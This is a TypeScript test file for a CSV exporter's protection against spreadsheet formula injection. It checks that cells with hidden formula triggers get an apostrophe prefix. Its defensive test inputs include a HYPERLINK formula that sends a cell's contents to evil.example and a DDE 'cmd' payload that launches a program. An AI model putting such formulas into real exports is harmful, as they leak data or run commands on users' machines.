import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { needsProtection, protectCell, spreadsheetCsv, unprotectCell } from '../csv.ts'

/** What a spreadsheet may skip before the character that starts a formula. */
const prefixes = ['', ' ', '   ', '\t', '\r', '\n', '"', "'", '\u0000', '\u0007', '\u00a0', '\ufeff', ' "\t']
const triggers = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const tails = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|' /C calc'!A0", '']

const hostile = [
  ...prefixes.flatMap((prefix) => triggers.flatMap((trigger) => tails.map((tail) => `${prefix}${trigger}${tail}`))),
  '\tplain text after a tab',
  '\rplain text after a carriage return',
  '"\tquoted tab',
]
const harmless = [
  'Moscow',
  'a=b',
  '1-2',
  'e-mail',
  'x@example.org',
  '50000',
  '',
  'Ёлка',
  "'quoted",
  "''",
  'plain\ttab inside',
]

describe('spreadsheet formula protection', () => {
  it('puts an apostrophe before every cell a spreadsheet could run, wherever the trigger hides', () => {
    for (const value of hostile) {
      expect(needsProtection(value), JSON.stringify(value)).toBe(true)
      expect(protectCell(value), JSON.stringify(value)).toBe(`'${value}`)
    }
  })

  it('leaves other cells as they are', () => {
    for (const value of harmless) expect(protectCell(value), JSON.stringify(value)).toBe(value)
  })

  it('is undone exactly by unprotectCell, also for values that already start with apostrophes', () => {
    const values = [...hostile, ...harmless].flatMap((v) => [v, `'${v}`, `''${v}`])
    for (const value of values) expect(unprotectCell(protectCell(value)), JSON.stringify(value)).toBe(value)
    // A cell someone typed with their own apostrophe keeps it unless it guards a formula.
    expect(unprotectCell("'plain")).toBe("'plain")
    expect(unprotectCell("'=SUM(A1)")).toBe('=SUM(A1)')
    expect(unprotectCell("' @x")).toBe(' @x')
  })

  it('writes CSV whose every cell, the header too, is protected and reads back to the values given', () => {
    const header = ['=header', 'plain']
    const rows = [...hostile, ...harmless].map((value, i) => [value, i])
    const csv = spreadsheetCsv(header, rows)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
    const parsed: string[][] = parse(csv, { bom: true, relax_column_count: false })
    expect(parsed).toHaveLength(rows.length + 1)
    for (const row of parsed) {
      for (const cell of row) {
        expect(!needsProtection(cell) || cell.startsWith("'"), JSON.stringify(cell)).toBe(true)
      }
    }
    expect(parsed.map((row) => row.map(unprotectCell))).toEqual(
      [header, ...rows].map((row) => row.map((value) => String(value))),
    )
  })
})
